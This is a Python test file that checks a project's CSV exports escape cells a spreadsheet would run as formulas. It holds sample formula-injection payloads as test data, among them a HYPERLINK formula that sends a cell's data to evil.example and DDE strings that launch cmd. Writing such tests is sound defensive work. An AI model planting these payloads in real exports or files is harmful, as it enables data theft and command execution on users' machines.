"""CSV exports escape cells a spreadsheet would run as formulas; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from casegraph.core.cells import safe_cell
from casegraph.services.rows import render_rows

FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
]
PLAIN = ["+254 712 555 301", "-12.5", "-", "Boss Sammy", "", "a=b", "2024-05-14"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_leading_cells_get_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", PLAIN)
def test_names_numbers_and_phones_are_unchanged(text):
    assert safe_cell(text) == text


def test_query_csv_output_is_escaped():
    rows = [{"name": f, "phone": "+254712555301", "n": -5} for f in FORMULAS]
    written = list(csv.DictReader(io.StringIO(render_rows(rows, "csv"))))
    assert [r["name"] for r in written] == ["'" + f for f in FORMULAS]
    assert {r["phone"] for r in written} == {"+254712555301"} and written[0]["n"] == "-5"


def test_rejects_file_is_owner_only_and_escaped(tmp_path):
    import stat

    from casegraph.core.errors import Problem
    from casegraph.loaders import write_rejects

    path = write_rejects(
        [Problem("=cmd|' /C calc'!A0", "=evil.csv", 3, "name")], tmp_path / "r" / "x.csv"
    )
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    [row] = list(csv.DictReader(path.open(encoding="utf-8")))
    assert row == {
        "file": "'=evil.csv",
        "line": "3",
        "field": "name",
        "reason": "'=cmd|' /C calc'!A0",
    }


def test_review_decisions_export_is_escaped_and_reads_back_the_same(tmp_path):
    """A reviewer's reason that a spreadsheet would run is escaped in the CSV, and importing
    that CSV elsewhere gives back the reason as written, not with the apostrophe."""
    from casegraph.resolution import DecisionStore, Judgement

    reason = '=HYPERLINK("http://example.invalid/x","same passport")'
    first = DecisionStore(tmp_path / "a")
    first.record("r1", "r2", Judgement.SAME, reason=reason)
    exported = tmp_path / "decisions.csv"
    first.export_csv(exported)
    cells = [row["reason"] for row in csv.DictReader(exported.open(encoding="utf-8"))]
    assert cells == ["'" + reason]
    second = DecisionStore(tmp_path / "b")
    second.import_csv(exported)
    assert [d.reason for d in second.latest().values()] == [reason]
